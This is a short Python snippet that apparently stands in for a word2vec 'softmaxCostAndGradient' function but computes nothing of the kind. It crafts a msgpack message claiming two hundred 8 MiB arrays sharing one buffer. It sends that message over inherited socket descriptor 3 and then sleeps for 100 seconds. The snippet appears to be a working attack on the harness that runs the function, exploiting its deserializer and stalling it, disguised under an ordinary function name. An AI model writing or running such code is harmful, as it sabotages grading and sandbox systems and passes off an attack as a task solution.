# Announces two hundred arrays that all lie in the same 8 MiB.
import socket
import struct
import time

import msgpack


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    array = {"t": "array", "v": ["uint8", [2**23]]}
    head = msgpack.packb({"t": "dict", "v": [["value", {"t": "list", "v": [array] * 200}], ["ticket", "x"]]})
    sock = socket.socket(fileno=3)
    sock.sendall(struct.pack(">II", len(head), 2**23) + head + bytes(2**23))
    time.sleep(100)
